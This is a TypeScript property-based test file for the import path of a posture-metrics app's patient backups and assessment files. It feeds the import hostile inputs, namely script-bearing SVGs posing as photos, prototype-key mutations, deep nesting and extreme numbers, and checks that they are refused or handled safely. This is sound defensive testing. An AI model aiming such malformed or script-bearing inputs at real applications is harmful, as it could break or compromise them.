/** A valid backup spec as the file's text, with mutations applied. */
const backupText = (spec: BackupSpec, change: (data: Json) => void = () => undefined) => {
  const data = backupData(spec)
  change(data)
  return JSON.stringify(data)
}

/** The assessment file of one visit: these views marked, a patient identifier (or none). */
const assessmentFile = fc.record({
  views: fc.subarray([...VIEWS], { minLength: 1 }),
  identifier: fc.option(fc.constantFrom(...IDENTIFIERS), { nil: undefined, freq: 8 }),
  date: fc.constantFrom('', '2026-03-10', '2026-05-01'),
})

function assessmentData(a: { views: View[]; identifier: string | undefined; date: string }): Json {
  const data: Json = assessment(a.views, a.identifier ?? '', a.date)
  if (a.identifier === undefined) delete data.patient_id
  return data
}

describe('hostile files imported through the real import path (fake-indexeddb; seed printed on failure)', () => {
  let locale = 'en'
  before(() => {
    locale = currentLocale()
    setLocale('en')
  })
  after(() => {
    setLocale(locale)
    const lines = [...tally].map(
      ([label, counts]) => `  ${label}: ${[...counts].map(([outcome, n]) => `${n} ${outcome}`).join(', ')}`,
    )
    process.stdout.write(`# hostile imports (seed ${SEED}):\n${lines.map((l) => `# ${l}`).join('\n')}\n`)
  })

  test('the seed record and a valid backup import as planned (the test can tell)', async () => {
    const spec: BackupSpec = {
      scope: 'record',
      patients: [{ id: 'p-a', identifier: 'HC-0002', name: 'Luis', notes: '' }],
      visits: [
        {
          id: 'v-1',
          patient: 0,
          date: '2026-04-14',
          created: T0,
          updated: T0,
          views: ['anterior'],
          photos: [
            { view: 'anterior', key: 'k-1', type: 'image/png', width: 600, height: 1000, bytes: png(600, 1000) },
          ],
        },
      ],
    }
    assert.equal(await importChecked('valid.json', backupText(spec)), 'imported')
    const svg = { ...spec.visits[0]!.photos[0]!, bytes: SVG_SCRIPT }
    assert.equal(
      await importChecked('svg.json', backupText({ ...spec, visits: [{ ...spec.visits[0]!, photos: [svg] }] })),
      'refused',
    )
  })

  test("another patient's new visit with a photo under the key of the record's photo: that photo is never shown for it", async () => {
    // Refused, or imported with the file's own photo: an SVG (the schema sniffs every photo of the file), and PNGs of
    // their own (640 x 480, and Ana's size), whose bytes the import neither verifies nor stores when the key is already
    // the record's.
    for (const [bytes, type, width, height] of [
      [SVG_SCRIPT, 'image/svg+xml', 600, 1000],
      [png(640, 480, 7), 'image/png', 640, 480],
      [png(600, 1000, 7), 'image/png', 600, 1000],
    ] as const) {
      const visit: VisitSpec = {
        id: 'v-1',
        patient: 0,
        date: '2026-04-14',
        created: T0,
        updated: T0,
        views: ['anterior'],
        photos: [{ view: 'anterior', key: 'seed-photo', type, width, height, bytes }],
      }
      const spec: BackupSpec = {
        scope: 'visit',
        patients: [{ id: 'p-a', identifier: 'HC-0002', name: 'Luis', notes: '' }],
        visits: [visit],
      }
      await importChecked('key-taken.json', backupText(spec), 0, (after, outcome) => {
        if (outcome !== 'imported') return
        // Imported: the new visit shows the file's photo, never the record's.
        const ref = after.visits.find((v) => v.id === 'v-1')?.photos.anterior
        const photo = after.photos.find((p) => p.key === ref?.key)
        assert.equal(photo?.bytes, Buffer.from(bytes).toString('base64'), `${type}: the file's photo`)
      })
    }
  })

  test('two photos of one file under one key, with other bytes: refused, not one shown for the other', async () => {
    const photo = (view: View, width: number, height: number, salt: number): PhotoSpec => ({
      view,
      key: 'shared',
      type: 'image/png',
      width,
      height,
      bytes: png(width, height, salt),
    })
    const spec: BackupSpec = {
      scope: 'patient',
      patients: [{ id: 'p-a', identifier: 'HC-0002', name: 'Luis', notes: '' }],
      visits: [
        { ...visitOf(0), id: 'v-1', photos: [photo('anterior', 600, 1000, 1)] },
        { ...visitOf(0), id: 'v-2', photos: [photo('anterior', 640, 480, 2)] },
      ],
    }
    assert.equal(await importChecked('shared-key.json', backupText(spec)), 'refused')
  })

  test('random JSON and random text, as a backup or an assessment file', async () => {
    await property(
      'random JSON and text',
      runs(300),
      fc.oneof(
        fc.jsonValue({ maxDepth: 6 }).map((v) => JSON.stringify(v) ?? 'null'),
        fc
          .record({
            format: fc.constantFrom('posture-metrics-record', 'posture-metrics-session'),
            rest: fc.dictionary(fc.string(), fc.jsonValue({ maxDepth: 4 })),
          })
          .map(({ format, rest }) => JSON.stringify({ ...rest, format, version: 1 })),
        fc.string({ maxLength: 2000 }),
        fc.uint8Array({ maxLength: 4000 }).map((b) => new Uint8Array(b)),
      ),
      (content) => ({ name: 'random.json', content }),
    )
  })

  test('valid backups mutated: fields dropped, duplicated, retyped, prototype keys, hostile values anywhere', async () => {
    await property(
      'mutated backups',
      runs(500),
      fc.tuple(backupSpec(), fc.array(mutation, { minLength: 1, maxLength: 4 }), fc.nat()),
      ([spec, mutations, pick]) => ({
        name: 'mutated.json',
        content: backupText(spec, (data) => mutated(data, mutations)),
        pick,
      }),
    )
  })

  test('nesting 10 to 100,000 levels deep inside a visit, or around the whole file', async () => {
    await property(
      'deep nesting',
      runs(150),
      fc.tuple(
        backupSpec(),
        fc.oneof(fc.integer({ min: 10, max: 40 }), fc.integer({ min: 40, max: 100_000 })),
        fc.constantFrom('[', '{"a":'),
        fc.constantFrom('visit', 'assessment', 'markers', 'file'),
      ),
      ([spec, depth, open, where]) => {
        const close = open === '[' ? ']' : '}'
        const deep = `${open.repeat(depth)}1${close.repeat(depth)}`
        const marker = '"__deep__"'
        const content = backupText({ ...spec, visits: spec.visits.length > 0 ? spec.visits : [visitOf(0)] }, (data) => {
          const visit = data.visits[0]
          if (where === 'visit') visit.extra = '__deep__'
          else if (where === 'assessment')
            visit.assessment.views[Object.keys(visit.assessment.views)[0]!].deep = '__deep__'
          else if (where === 'markers') {
            const view = visit.assessment.views[Object.keys(visit.assessment.views)[0]!]
            view.markers[Object.keys(view.markers)[0]!] = '__deep__'
          }
        }).replace(marker, deep)
        return {
          name: 'deep.json',
          content: where === 'file' ? `${open.repeat(depth)}${content}${close.repeat(depth)}` : content,
        }
      },
    )
  })

  test('numbers written as 1e308, -1e308, 1e-308, 1e999 and NaN-ish text in place of any number', async () => {
    const literal = fc.constantFrom(
      '1e308',
      '-1e308',
      '1e-308',
      '1e999',
      '-1e999',
      '5e-324',
      '"NaN"',
      '"Infinity"',
      '9'.repeat(400),
    )
    await property(
      'huge and tiny numbers',
      runs(200),
      fc.tuple(backupSpec(), fc.nat(), literal),
      ([spec, at, number]) => {
        const text = backupText({ ...spec, visits: spec.visits.length > 0 ? spec.visits : [visitOf(0)] })
        const numbers = [...text.matchAll(/(?<=[:[,])-?\d+(\.\d+)?(e[+-]?\d+)?(?=[,\]}])/gi)]
        const m = numbers[at % numbers.length]!
        return { name: 'numbers.json', content: text.slice(0, m.index) + number + text.slice(m.index! + m[0].length) }
      },
    )
  })

  test('photos that are no photo (SVG with a script, HTML, random bytes, GIF, PDF) or not the one declared', async () => {
    await property('hostile photos', runs(300), fc.tuple(backupSpec(), hostilePhoto, fc.nat()), ([spec, photo, at]) => {
      // The hostile photo in one visit of the file, beside its good ones.
      const visits = spec.visits.length > 0 ? [...spec.visits] : [visitOf(0)]
      const i = at % visits.length
      const visit = visits[i]!
      visits[i] = { ...visit, photos: [...visit.photos.filter((p) => p.view !== photo.view), photo] }
      return { name: 'photo.json', content: backupText({ ...spec, visits }) }
    })
  })

  test('valid backups with edits: each imported exactly as its plan says, or nothing new', async () => {
    await property('valid backups with edits', runs(300), fc.tuple(backupSpec(), fc.nat()), ([spec, pick]) => ({
      name: 'edited.json',
      content: backupText(spec),
      pick,
    }))
  })

  test('a photo under a key the record already has, or that another photo of the file has: never another photo shown', async () => {
    await property(
      'colliding photo keys',
      runs(200),
      fc.tuple(backupSpec(fc.oneof(goodPhoto, collidingPhoto)), fc.nat()),
      ([spec, pick]) => ({ name: 'keys.json', content: backupText(spec), pick }),
    )
  })

  test('how markers were placed (marker_origin): admitted as written; a wrong value refused, naming the field', async () => {
    const file = (change: (view: Json) => void) => {
      const data = assessmentData({ views: ['anterior'], identifier: 'HC-0002', date: '2026-04-14' })
      assert.ok(Object.keys(data.views.anterior.marker_origin).length > 0, 'the file records how markers were placed')
      change(data.views.anterior)
      return JSON.stringify(data)
    }
    const marker = Object.keys(FIGURES.anterior.markers)[0]!
    assert.equal(
      await importChecked(
        'origin.json',
        file(() => undefined),
      ),
      'imported',
    )
    const refusals: [string, (view: Json) => void, RegExp][] = [
      ['another word', (v) => (v.marker_origin[marker] = 'model'), new RegExp(`marker_origin\\.${marker}`)],
      ['not an object', (v) => (v.marker_origin = ['hand']), /marker_origin/],
      [
        '"hand" for a suggestion not yet confirmed',
        (v) => {
          v.marker_status = { [marker]: 'suggested' }
          v.marker_origin[marker] = 'hand'
        },
        new RegExp(`marker_origin\\.${marker} is "hand", but marker_status says`),
      ],
    ]
    for (const [what, change, named] of refusals)
      await importChecked('origin.json', file(change), 0, (_after, outcome, notice) => {
        assert.equal(outcome, 'refused', what)
        assert.match(notice, named, what)
      })
  })

  test('assessment files, valid and hostile (1e308 image size, deep nesting, mutations)', async () => {
    type Change =
      | { readonly kind: 'none' }
      | { readonly kind: 'mutations'; readonly mutations: readonly Mutation[] }
      | { readonly kind: 'huge image' }
    const change: fc.Arbitrary<Change> = fc.oneof(
      fc.constant({ kind: 'none' as const }),
      fc.record({
        kind: fc.constant('mutations' as const),
        mutations: fc.array(mutation, { minLength: 1, maxLength: 3 }),
      }),
      fc.constant({ kind: 'huge image' as const }),
    )
    await property(
      'assessment files',
      runs(300),
      fc.tuple(
        assessmentFile,
        change,
        fc.oneof(
          { weight: 4, arbitrary: fc.constant(undefined) },
          { weight: 1, arbitrary: fc.integer({ min: 10, max: 100_000 }) },
        ),
      ),
      ([a, change, depth]) => {
        const data = assessmentData(a)
        if (change.kind === 'mutations') mutated(data, change.mutations)
        else if (change.kind === 'huge image')
          for (const view of Object.values(data.views) as Json[])
            view.image = { ...view.image, width: 1e308, height: 1e308 }
        let content = JSON.stringify(data)
        if (depth !== undefined)
          content = content.replace('"markers":', `"deep":${'['.repeat(depth)}${']'.repeat(depth)},"markers":`)
        return { name: 'valoracion.json', content }
      },
    )
  })
})

/** A plain visit of the file's first patient, for files that need one. */
function visitOf(patient: number): VisitSpec {
  return {
    id: 'v-9',
    patient,
    date: '2026-04-14',
    created: T0,
    updated: T0,
    views: ['anterior'],
    photos: [{ view: 'anterior', key: 'k-9', type: 'image/png', width: 640, height: 480, bytes: png(640, 480, 9) }],
  }
}
